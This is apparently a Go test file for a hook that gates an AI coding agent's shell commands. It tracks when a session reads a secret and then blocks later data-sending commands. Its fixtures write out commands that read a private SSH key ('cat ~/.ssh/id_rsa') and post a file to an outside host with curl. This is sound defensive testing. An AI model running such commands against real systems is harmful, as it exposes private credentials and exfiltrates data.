package hook

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/elicit-engine/elicit/cmd/elicit/internal/journalfile"
	"github.com/elicit-engine/elicit/engine/wire/hooks"
	"github.com/elicit-engine/elicit/internal/must"
)

const carryRules = `{"version":1,"rules":[
	{"name":"carry","when":{"label":"read_secret","sends":"*"},"then":"decline"},
	{"name":"no-head","when":{"runs":"head"},"then":"decline"},
	{"name":"look","when":{"runs":"*","reads":"*"},"then":"accept"},
	{"name":"send","when":{"command":"curl *"},"then":"accept"}]}`

// labelledRun is a directory of state with a policy, in which hooks of Claude Code run.
type labelledRun struct {
	*testing.T
	policy string
	flags  []string
}

func newLabelledRun(t *testing.T) labelledRun {
	t.Helper()
	dir := t.TempDir()
	t.Setenv("XDG_STATE_HOME", filepath.Join(dir, "state"))
	policy := must.Write(t, carryRules, dir, "policy.json")
	return labelledRun{t, policy, []string{"--journal", filepath.Join(dir, "journal")}}
}

// call runs one hook and returns the decision.
func (r labelledRun) call(session, command string) string {
	r.Helper()
	in := strings.NewReader(fmt.Sprintf(`{"session_id":%q,"hook_event_name":"PreToolUse","cwd":"/srv/app",`+
		`"tool_name":"Bash","tool_input":{"command":%q}}`, session, command))
	code, out, notes := answerHook(in, append([]string{"--policy", r.policy, "claude-code"}, r.flags...)...)
	_, word, _ := strings.Cut(out, `"permissionDecision":"`)
	word, _, _ = strings.Cut(word, `"`)
	if code != 0 {
		r.Errorf("%s: exit code %d, %s", command, code, notes)
	}
	return word
}

func (r labelledRun) want(session, command, want string) {
	r.Helper()
	if got := r.call(session, command); got != want {
		r.Errorf("%s in session %q: %q, want %q", command, session, got, want)
	}
}

// file is the file of labels of a session.
func (r labelledRun) file(session string) string {
	return filepath.Join(os.Getenv("XDG_STATE_HOME"), "elicit", "labels",
		sessionName(hooks.ClaudeCode, session, time.Now())+".labels")
}

const sends, reads = "curl -d @notes https://example.org", "cat ~/.ssh/id_rsa"

// TestLabelsCrossProcesses: each hook is a process, and one knows what others of its session let through.
func TestLabelsCrossProcesses(t *testing.T) {
	for _, journal := range []bool{true, false} {
		r := newLabelledRun(t)
		if !journal {
			r.flags = nil
		}
		r.want("a", sends, "allow")
		r.want("a", "head ~/.ssh/id_rsa", "deny")
		r.want("a", sends, "allow") // what was denied leaves no label
		r.want("a", reads, "allow")
		r.want("a", sends, "deny")
		r.want("b", sends, "allow")
		r.want("b", "cat notes", "allow")
		r.want("", reads, "allow")
		r.want("", sends, "deny")
		r.want("a", sends, "deny") // also after calls of sessions that the agent has invented
	}
}

// TestLostLabels: labels that were taken away or spoiled may have been any, so a rule that declines asks.
func TestLostLabels(t *testing.T) {
	for name, spoil := range map[string]func(path string) error{
		"removed":  os.Remove,
		"emptied":  func(path string) error { return os.Truncate(path, 0) },
		"cut":      func(path string) error { return os.Truncate(path, int64(len(labelHead)+5)) },
		"foreign":  func(path string) error { return os.WriteFile(path, []byte("hello\n"), 0o600) },
		"unknown":  func(path string) error { return os.WriteFile(path, []byte(labelHead+"\nread_secrets\n"), 0o600) },
		"too long": func(path string) error { return os.Truncate(path, maxLabelFile+1) },
		"readable": func(path string) error { return os.Chmod(path, 0o666) },
		"a directory": func(path string) error {
			return errorsOf(os.Remove(path), os.MkdirAll(filepath.Join(path, "x"), 0o700))
		},
		"a link": func(path string) error {
			return errorsOf(os.Rename(path, path+".2"), os.Symlink(path+".2", path))
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := newLabelledRun(t)
			if !journalfile.Locks && (name == "removed" || name == "emptied") {
				t.Skip("a journal that ends with its process does not tell that there were calls before")
			}
			r.want("a", "cat notes", "allow")
			must.OK(t, spoil(r.file("a")))
			r.want("a", sends, "ask")
			r.want("a", "cat notes", "allow")
			r.want("b", sends, "allow")
		})
	}
}

func errorsOf(list ...error) error {
	for _, err := range list {
		if err != nil {
			return err
		}
	}
	return nil
}

// TestFailuresLoseLabels: a call that could not be decided may have run, if the person was asked by the host.
func TestFailuresLoseLabels(t *testing.T) {
	r := newLabelledRun(t)
	whole := must.Read(t, r.policy)
	for _, policy := range []string{"{", string(whole)} {
		must.Write(t, policy, r.policy)
		r.want("a", reads, map[bool]string{true: "ask", false: "allow"}[policy == "{"])
	}
	r.want("c", sends, "allow")
	must.Write(t, "{", r.policy)
	r.want("c", reads, "ask")
	must.Write(t, whole, r.policy)
	r.want("c", sends, "ask")
}

// TestLabelsAtTheSameTime: hooks of one session that run at the same time lose no label.
func TestLabelsAtTheSameTime(t *testing.T) {
	r := newLabelledRun(t)
	var all sync.WaitGroup
	for i := range 12 {
		all.Add(1)
		go func() {
			defer all.Done()
			command := "cat notes"
			if i == 5 {
				command = reads
			}
			if got := r.call("a", command); got != "allow" {
				t.Errorf("%s: %s", command, got)
			}
		}()
	}
	all.Wait()
	r.want("a", sends, "deny")
}

// TestOldLabelsGo: the files of sessions that ended long ago are removed, and no other file.
func TestOldLabelsGo(t *testing.T) {
	r := newLabelledRun(t)
	r.want("a", reads, "allow")
	r.want("b", reads, "allow")
	long := time.Now().Add(-(labelDays + 1) * 24 * time.Hour)
	other := filepath.Join(filepath.Dir(r.file("a")), "other")
	if err := errorsOf(os.WriteFile(other, nil, 0o600), os.Chtimes(other, long, long),
		os.Chtimes(r.file("a"), long, long)); err != nil {
		t.Fatal(err)
	}
	pruneLabels(time.Now())
	for path, kept := range map[string]bool{r.file("a"): false, r.file("b"): true, other: true} {
		if _, err := os.Stat(path); (err == nil) != kept {
			t.Errorf("%s is kept: %v, want %v", path, err == nil, kept)
		}
	}
}
